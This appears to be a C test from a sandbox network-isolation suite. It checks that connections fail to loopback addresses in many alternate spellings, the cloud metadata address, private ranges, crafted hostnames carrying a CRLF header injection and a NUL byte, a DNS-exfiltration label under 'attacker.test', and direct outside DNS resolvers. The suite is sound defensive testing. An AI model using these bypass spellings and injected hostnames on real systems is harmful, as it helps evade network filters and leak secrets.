/* E2, E3: names as a channel, and addresses in every spelling. The granted name is granted.test; the canary's port is
 * not. */
#include "attack.h"
#include <netdb.h>

static void no_way(const char *host, int port)
{
    struct addrinfo hints = { .ai_socktype = SOCK_STREAM }, *found = NULL;
    int failed = getaddrinfo(host, path("%d", port), &hints, &found);
    if (failed) { verdict(0, "%s: %s", host, gai_strerror(failed)); return; }
    for (struct addrinfo *at = found; at; at = at->ai_next)
    {
        int handle = socket(at->ai_family, SOCK_STREAM | SOCK_NONBLOCK, 0);
        int result = connect(handle, at->ai_addr, at->ai_addrlen);
        int error = errno;
        verdict(result == 0, "connect %s: %s", host, strerror(error));
        close(handle);
    }
    freeaddrinfo(found);
}

int main(int argc, char **argv)
{
    start(argc, argv);
    static const char *spellings[] = { "127.0.0.1", "2130706433", "0177.0.0.1", "0x7f.1", "127.1", "0", "0.0.0.0", "::1",
        "::", "::ffff:127.0.0.1", "::127.0.0.1", "localhost", "localhost.", "LOCALHOST", "127.0.0.1.", "granted.test.",
        "granted.test", "169.254.169.254", "fe80::1%lo", "fd00::1", "10.0.0.1", "192.168.0.1", "100.64.0.1",
        "224.0.0.1", "255.255.255.255", "64:ff9b::7f00:1", "2002:7f00:1::", "198.18.0.1", "198.18.0.2", "198.19.255.254" };
    for (unsigned i = 0; i < sizeof spellings / sizeof *spellings; i++)
        if (!strstr(spellings[i], "255.255")) no_way(spellings[i], tcp_port);
    char label[300];
    memset(label, 'a', 255); label[255] = 0;
    no_way(label, 443);
    no_way("granted.test\r\nHost: evil.test", 443);
    no_way("granted.test\\000.evil.test", 443);
    no_way("xn--80ak6aa92e.test", 443);
    no_way("secret-as-a-label.attacker.test", 443);

    /* Straight to a resolver outside: there is no way there. */
    struct sockaddr_in resolver = { .sin_family = AF_INET, .sin_port = htons(53), .sin_addr.s_addr = inet_addr("192.0.2.53") };
    int datagram = socket(AF_INET, SOCK_DGRAM, 0);
    REFUSED(sendto(datagram, "x", 1, 0, (struct sockaddr *)&resolver, sizeof resolver));
    REFUSED(connect(socket(AF_INET, SOCK_STREAM, 0), (struct sockaddr *)&resolver, sizeof resolver));
    resolver.sin_port = htons(853);
    REFUSED(connect(socket(AF_INET, SOCK_STREAM, 0), (struct sockaddr *)&resolver, sizeof resolver));
    REFUSED(access("/run/systemd/resolve/io.systemd.Resolve", F_OK));
    REFUSED(access("/var/run/nscd/socket", F_OK));
    return 0;
}
